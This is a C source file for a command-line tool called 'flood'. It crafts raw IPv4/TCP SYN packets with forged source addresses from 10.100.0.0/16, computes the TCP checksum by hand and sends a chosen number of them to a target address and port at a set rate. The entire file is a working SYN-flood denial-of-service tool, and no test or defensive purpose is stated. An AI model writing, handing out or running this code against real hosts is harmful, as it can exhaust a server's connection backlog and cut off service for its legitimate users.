/* SPDX-License-Identifier: MIT */
/*
 * flood ADDRESS PORT NUMBER [EACH]: so many SYN from made-up addresses, none of which ever answers, EACH a millisecond
 * (20). IPv4.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static uint16_t sum_of(const void *bytes, size_t n, uint32_t sum)
{
	const uint8_t *p = bytes;

	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

int main(int argc, char **argv)
{
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} p = { .ip = { .ihl = 5, .version = 4, .ttl = 64, .protocol = IPPROTO_TCP } };
	struct sockaddr_in to = { .sin_family = AF_INET };
	int number = argc > 3 ? atoi(argv[3]) : 0, each = argc > 4 ? atoi(argv[4]) : 20, sent = 0;
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (s < 0 || !number || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
		perror("flood");
		return 2;
	}
	p.ip.tot_len = htons(sizeof p);
	p.ip.daddr = to.sin_addr.s_addr;
	p.tcp.dest = htons((uint16_t)atoi(argv[2]));
	p.tcp.doff = 5;
	p.tcp.syn = 1;
	p.tcp.window = htons(64000);
	for (int i = 0; i < number; i++) {
		uint8_t pseudo[12] = { 0 };

		p.ip.saddr = htonl(0x0a640000u + (uint32_t)i % 60000);
		p.ip.id = htons((uint16_t)i);
		p.tcp.source = htons((uint16_t)(1024 + i / 7));
		p.tcp.seq = htonl((uint32_t)i * 64007u);
		p.tcp.check = 0;
		memcpy(pseudo, &p.ip.saddr, 8);
		pseudo[9] = IPPROTO_TCP;
		pseudo[11] = sizeof p.tcp;
		p.tcp.check = sum_of(&p.tcp, sizeof p.tcp, (uint16_t)~ntohs(sum_of(pseudo, 12, 0)));
		sent += sendto(s, &p, sizeof p, 0, (void *)&to, sizeof to) == sizeof p;
		if (i % each == 0)
			usleep(1000);
	}
	printf("%d sent\n", sent);
	return sent < number * 9 / 10;
}
